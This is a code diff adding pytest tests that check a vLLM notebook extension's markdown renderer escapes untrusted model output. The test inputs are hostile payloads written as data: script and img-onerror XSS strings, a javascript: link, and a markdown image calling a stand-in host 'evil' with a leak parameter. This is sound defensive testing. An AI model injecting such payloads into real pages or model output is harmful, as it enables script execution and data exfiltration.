@@ -264,3 +264,25 @@ def test_magic_lines_reach_our_parser_as_typed():
         _argv("vllm_unload", "--name {flag}", ns)
     for name in ("vllm_load", "generate", "chat", "vllm_unload", "vllm_sleep", "vllm_servers", "vllm_status"):
         assert getattr(getattr(VllmMagics, name), MAGIC_NO_VAR_EXPAND_ATTR, False), name
+
+
+@pytest.mark.parametrize("text,must_not,must", [
+    ("<img src=x onerror=alert(1)>", "<img", "&lt;img src=x onerror=alert(1)>"),
+    ("<script>alert(1)</script> **bold**", "<script", "**bold**"),
+    ("see ![x](http://evil/?leak=1)", " ![", "\\![x](http://evil/?leak=1)"),
+    ("[click](javascript:alert(1))", "javascript:", "[click](#unsafe-link:alert(1))"),
+    ("&lt;img onerror=1&gt;", "&lt;img", "&amp;lt;img"),
+    ("code: `<b>x</b>` and\n```html\n<div>kept</div>\n```\nafter <i>", "after <i>", "`<b>x</b>`"),
+])
+def test_model_output_renders_no_html(text, must_not, must):
+    """Issue 13, item 1: model text is untrusted; JupyterLab trusts live outputs and saved ones."""
+    from vllm_notebook.ui.render import safe_markdown
+
+    out = safe_markdown(text)
+    assert must_not not in out and must in out, out
+
+
+def test_unterminated_fence_while_streaming_stays_code():
+    from vllm_notebook.ui.render import safe_markdown
+
+    assert safe_markdown("x <b>\n```\n<div>") == "x &lt;b>\n```\n<div>"
